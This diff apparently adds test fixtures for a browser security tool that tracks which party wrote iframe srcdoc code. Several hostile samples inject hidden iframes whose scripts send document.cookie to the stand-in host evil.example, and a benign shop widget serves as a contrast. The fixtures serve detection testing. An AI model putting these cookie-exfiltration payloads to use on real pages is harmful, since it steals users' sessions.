@@ -1412,6 +1412,17 @@ export const MAIN_WORLD_SCRIPTS = {
   poll();
 })();`,
 
+  /**
+   * A srcdoc given to a frame already in the page: its document gets a new realm, whose own parser runs the script
+   * before the frame's load, when Saq adopts it (docs/security.md). Given before the frame is inserted, it is hooked.
+   */
+  'srcdoc-given-in-page': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  document.body.appendChild(frame);
+  frame.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-in-page?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
   /** A frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
   'pristine-srcdoc-parsed-frame': `(() => {
   const frame = document.createElement('iframe');
@@ -1586,6 +1597,32 @@ export const MAIN_WORLD_SCRIPTS = {
   frame.hidden = true;
   document.body.appendChild(frame);
   frame.srcdoc = '<iframe src="https://evil.example/frame-srcdoc.html#' + encodeURIComponent(document.cookie) + '"></iframe>';
+})();`,
+  'stranger-frame-srcdoc-script': `(() => {
+  // The stranger's frame made by the script of a srcdoc frame the helper wrote: that code is named by the frame's
+  // address (about:srcdoc), and the helper wrote it.
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  frame.srcdoc = '<body><script>const f = document.createElement("iframe");'
+    + 'f.src = "https://evil.example/frame-srcdoc-script.html#" + encodeURIComponent(document.cookie);'
+    + 'document.body.append(f);<\\/script>';
+  document.body.appendChild(frame);
+})();`,
+  /**
+   * The same, once the shop's own srcdoc widget has drawn (BENIGN['srcdoc-widget'], on the page before it): the
+   * shop writing srcdocs first must not make the helper's srcdoc code the shop's.
+   */
+  'stranger-frame-after-shop': `(() => {
+  const write = () => {
+    if (!window.__srcdocWidget) return setTimeout(write, 20);
+    const frame = document.createElement('iframe');
+    frame.hidden = true;
+    frame.srcdoc = '<body><script>const f = document.createElement("iframe");'
+      + 'f.src = "https://evil.example/frame-after-shop.html#" + encodeURIComponent(document.cookie);'
+      + 'document.body.append(f);<\\/script>';
+    document.body.appendChild(frame);
+  };
+  write();
 })();`,
   'stranger-frame-editor': `(() => {
   // Put at the caret of an editable part of the page.
@@ -1909,6 +1946,21 @@ export const BENIGN = {
   blank.contentDocument.body.style.background = 'url("https://media.partner.test/bg.png?v=3")';
   blank.contentDocument.body.textContent = '.';
   window.__widgetDrawn = true;
+})();`,
+  /**
+   * A widget the shop draws in a srcdoc frame whose own script shows a partner's pages in frames, by `src`,
+   * `setAttribute` and markup: that code is named `about:srcdoc`, and the shop wrote it.
+   */
+  'srcdoc-widget': `(() => {
+  const widget = document.createElement('iframe');
+  widget.title = 'branches';
+  widget.srcdoc = '<body><script>'
+    + 'const map = document.createElement("iframe"); map.src = "https://media.partner.test/map?branch=3"; document.body.append(map);'
+    + 'const hours = document.createElement("iframe"); document.body.append(hours); hours.setAttribute("src", "https://media.partner.test/hours");'
+    + 'document.body.insertAdjacentHTML("beforeend", "<iframe src=https://media.partner.test/branches></iframe>");'
+    + 'parent.__srcdocWidget = true;'
+    + '<\\/script></body>';
+  document.body.append(widget);
 })();`,
   /** The shop counting clicks on its own links with pings to itself and to its analytics provider. */
   'link-pings': `(() => {
